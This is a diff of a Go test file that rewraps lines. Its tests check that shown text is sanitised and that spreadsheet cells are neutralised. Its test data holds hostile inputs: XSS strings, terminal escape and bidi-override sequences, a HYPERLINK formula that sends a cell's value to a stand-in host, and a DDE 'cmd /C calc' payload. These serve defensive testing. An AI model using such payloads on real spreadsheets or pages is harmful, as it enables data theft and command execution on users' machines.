@@ -8,9 +8,12 @@ import (
 
 // hostile has what must not have an effect where text of others is shown.
 var hostile = []string{
-	"<script>alert(1)</script>", "</code></td><img src=x onerror=y>", "a | b", "`` `x` ``", "\\`x", "![x](https://example.org/x.png)", "[x](javascript:y)",
-	"https://example.org www.example.org x@example.org", "@line-rate/everyone #1 GH-1 0123456789abcdef0123456789abcdef01234567", "one\ntwo\r\n\n# head\n- item",
-	"\x1b[2J\x1b]0;title\x07", "\u009b31m", "left\u202eright\u2066", "\x00", "\xff\xfe", "&lt;b&gt; &amp;", "<!-- x", "*b* _i_ ~~s~~ **b**", "| - | :-: |", "$x$ :smile:", "zero\u200bwidth",
+	"<script>alert(1)</script>", "</code></td><img src=x onerror=y>", "a | b", "`` `x` ``", "\\`x",
+	"![x](https://example.org/x.png)", "[x](javascript:y)",
+	"https://example.org www.example.org x@example.org",
+	"@line-rate/everyone #1 GH-1 0123456789abcdef0123456789abcdef01234567", "one\ntwo\r\n\n# head\n- item",
+	"\x1b[2J\x1b]0;title\x07", "\u009b31m", "left\u202eright\u2066", "\x00", "\xff\xfe", "&lt;b&gt; &amp;", "<!-- x",
+	"*b* _i_ ~~s~~ **b**", "| - | :-: |", "$x$ :smile:", "zero\u200bwidth",
 }
 
 func TestNoCellIsAFormula(t *testing.T) {
@@ -18,7 +21,8 @@ func TestNoCellIsAFormula(t *testing.T) {
 		"": "", "wire 96 %": "wire 96 %", "a=b": "a=b", "-5": "-5", "+5.5e3": "+5.5e3", "=1": "'=1",
 		`=HYPERLINK("http://evil.example"&A1,"x")`: `'=HYPERLINK("http://evil.example"&A1,"x")`,
 		"@SUM(1)*cmd|' /C calc'!A0":                "'@SUM(1)*cmd|' /C calc'!A0",
-		"+1+cmd":                                   "'+1+cmd", "-1+cmd": "'-1+cmd", "\t=1": "'\t=1", "\r=1": "'\r=1", "-": "'-",
+		"+1+cmd":                                   "'+1+cmd", "-1+cmd": "'-1+cmd", "\t=1": "'\t=1", "\r=1": "'\r=1",
+		"-": "'-",
 	} {
 		if got := Cells([]string{text})[0]; got != want {
 			t.Errorf("%q: %q, want %q", text, got, want)
@@ -36,7 +40,8 @@ func TestVisibleIsOneLineWithNothingHidden(t *testing.T) {
 		}
 	}
 	for text, want := range map[string]string{
-		"plain: 5 µs": "plain: 5 µs", "a\nb\tc": `a\nb\tc`, "\x1b[2J": `\u001b[2J`, "\u009b": `\u009b`, `\n`: `\\n`, "\xff": `\xff`, "�": "�",
+		"plain: 5 µs": "plain: 5 µs", "a\nb\tc": `a\nb\tc`, "\x1b[2J": `\u001b[2J`, "\u009b": `\u009b`, `\n`: `\\n`,
+		"\xff": `\xff`, "�": "�",
 		"\u202eabc": `\u202eabc`, "\U000e0041": `\U000e0041`, "e\u0301": `e\u0301`,
 	} {
 		if got := Visible(text, 200); got != want {
